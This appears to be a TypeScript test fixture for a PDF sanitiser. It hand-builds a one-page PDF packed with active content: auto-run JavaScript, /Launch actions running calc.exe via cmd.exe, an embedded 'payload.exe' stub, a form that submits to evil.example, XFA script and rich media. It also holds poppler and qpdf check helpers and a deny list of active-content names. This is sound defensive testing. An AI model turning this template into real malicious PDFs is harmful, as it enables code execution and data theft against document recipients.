/**
 * A one-page PDF that holds every kind of active content a viewer may run or open: a document-level
 * /OpenAction JavaScript (chained to a /Launch), the /Names /JavaScript and /EmbeddedFiles trees, catalog and
 * page /AA, an /AcroForm with XFA, an outline item that imports data, and annotations: a Link that launches a
 * program, a Link to a URI, a text field whose keystrokes run JavaScript, a button that submits the form, a
 * file attachment and rich media. Its page shows "Proof of address" and the text field's appearance shows
 * "Filled by Ada"; a NoView widget's appearance shows "Never shown". Written by hand: no producer makes it.
 */
import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { pdfOf } from "./hostile-pdfs";

const run = promisify(execFile);

const text = (s: string, size = 14, x = 72, y = 720) => `BT /F1 ${size} Tf ${x} ${y} Td (${s}) Tj ET`;
const stream = (dict: string, body: string) => ({ dict, stream: new TextEncoder().encode(body) });

export const ACTIVE_PAGE_TEXT = "Proof of address";
export const ACTIVE_FIELD_TEXT = "Filled by Ada";
export const ACTIVE_HIDDEN_TEXT = "Never shown";

export function activePdf(): Uint8Array {
  return pdfOf([
    /* 1 */ "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> " +
      "/AA << /WC 6 0 R >> /AcroForm << /Fields [12 0 R 18 0 R] /XFA 15 0 R >> /Outlines 16 0 R " +
      "/URI << /Base (https://evil.example/) >> /PageMode /UseOutlines >>",
    // Resources and the media box inherited from the tree: the kept page must carry them itself.
    /* 2 */ "<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 5 0 R >> >> /MediaBox [0 0 612 792] >>",
    /* 3 */ "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [11 0 R 12 0 R 13 0 R 14 0 R 18 0 R 21 0 R 22 0 R] " +
      "/AA << /O 8 0 R >> >>",
    /* 4 */ stream("", text(ACTIVE_PAGE_TEXT)),
    /* 5 */ "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    /* 6 */ "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) /Next 8 0 R >>",
    /* 7 */ "<< /Names [(doc) 6 0 R] >>",
    /* 8 */ "<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    /* 9 */ "<< /Names [(payload.exe) 10 0 R] >>",
    /* 10 */ "<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 19 0 R >> >>",
    /* 11 */ "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A 8 0 R >>",
    /* 12 */ "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ada) /Rect [72 500 300 530] /P 3 0 R /F 4 " +
      "/AA << /K 6 0 R /Fo 6 0 R >> /AP << /N 17 0 R >> >>",
    /* 13 */ "<< /Type /Annot /Subtype /Link /Rect [72 450 300 470] /A << /S /URI /URI (https://evil.example/) >> >>",
    /* 14 */ "<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /FS 10 0 R /F 4 /Contents (payload) >>",
    /* 15 */ stream("", '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'),
    /* 16 */ "<< /Type /Outlines /First 20 0 R /Last 20 0 R /Count 1 >>",
    /* 17 */ stream(
      "/Type /XObject /Subtype /Form /BBox [0 0 228 30] /Resources << /Font << /F1 5 0 R >> >>",
      text(ACTIVE_FIELD_TEXT, 12, 2, 10),
    ),
    /* 18 */ "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 380 200 400] /P 3 0 R " +
      "/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >> >>",
    /* 19 */ stream("/Type /EmbeddedFile", "MZ not really a program"),
    /* 20 */ "<< /Title (Import) /Parent 16 0 R /A << /S /ImportData /F (data.fdf) >> >>",
    /* 21 */ "<< /Type /Annot /Subtype /RichMedia /Rect [300 300 400 350] " +
      "/RichMediaContent << /Assets << /Names [(movie.swf) 10 0 R] >> >> /RichMediaSettings << >> >>",
    /* 22 */ "<< /Type /Annot /Subtype /Widget /FT /Tx /T (hidden) /Rect [72 200 300 230] /F 32 /AP << /N 23 0 R >> >>",
    /* 23 */ stream(
      "/Type /XObject /Subtype /Form /BBox [0 0 228 30] /Resources << /Font << /F1 5 0 R >> >>",
      text(ACTIVE_HIDDEN_TEXT, 12, 2, 10),
    ),
  ]);
}

async function withFile<T>(pdf: Uint8Array, fn: (file: string) => Promise<T>): Promise<T> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "signet-active-"));
  const file = path.join(dir, "in.pdf");
  fs.writeFileSync(file, pdf);
  try {
    return await fn(file);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** What poppler's `pdfinfo` answers to "JavaScript:" ("yes", "no"). */
export const pdfinfoJavaScript = (pdf: Uint8Array): Promise<string> =>
  withFile(pdf, async (file) => /^JavaScript:\s*(\S+)/m.exec((await run("pdfinfo", [file])).stdout)?.[1] ?? "?");

/** How many embedded files poppler's `pdfdetach -list` finds (the /EmbeddedFiles tree and file attachment annotations). */
export const pdfdetachCount = (pdf: Uint8Array): Promise<number> =>
  withFile(pdf, async (file) => Number(/^(\d+) embedded files?/m.exec((await run("pdfdetach", ["-list", file])).stdout)?.[1]));

/**
 * Every dictionary key and every name value in the file as qpdf reads it (`qpdf --json`: all objects, streams'
 * dictionaries and the trailer), and the number of pages qpdf finds.
 */
export function qpdfNames(pdf: Uint8Array): Promise<{ names: Set<string>; pages: number }> {
  return withFile(pdf, async (file) => {
    const r = await run("qpdf", ["--json=2", "--json-key=pages", "--json-key=qpdf", file], { maxBuffer: 256 * 1024 * 1024 });
    const json = JSON.parse(r.stdout) as { pages: unknown[]; qpdf: [unknown, Record<string, unknown>] };
    const names = new Set<string>();
    const stack: unknown[] = [json.qpdf[1]];
    while (stack.length) {
      const v = stack.pop();
      if (typeof v === "string" && v.startsWith("/")) names.add(v);
      else if (Array.isArray(v)) stack.push(...v);
      else if (v && typeof v === "object")
        for (const [k, x] of Object.entries(v)) {
          if (k.startsWith("/")) names.add(k);
          stack.push(x);
        }
    }
    return { names, pages: json.pages.length };
  });
}

/** The names a kept attachment must not hold: actions, scripts, files, forms, annotations, rich media. */
export const ACTIVE_NAMES = [
  "/OpenAction",
  "/AA",
  "/A",
  "/JS",
  "/JavaScript",
  "/Launch",
  "/URI",
  "/SubmitForm",
  "/ImportData",
  "/EmbeddedFiles",
  "/EmbeddedFile",
  "/EF",
  "/Filespec",
  "/FileAttachment",
  "/Names",
  "/AcroForm",
  "/XFA",
  "/Annots",
  "/Outlines",
  "/RichMedia",
  "/RichMediaContent",
  "/Widget",
  "/Link",
];

/** poppler's text of the file (`pdftotext`). */
export const popplerText = (pdf: Uint8Array): Promise<string> =>
  withFile(pdf, async (file) => (await run("pdftotext", [file, "-"])).stdout);
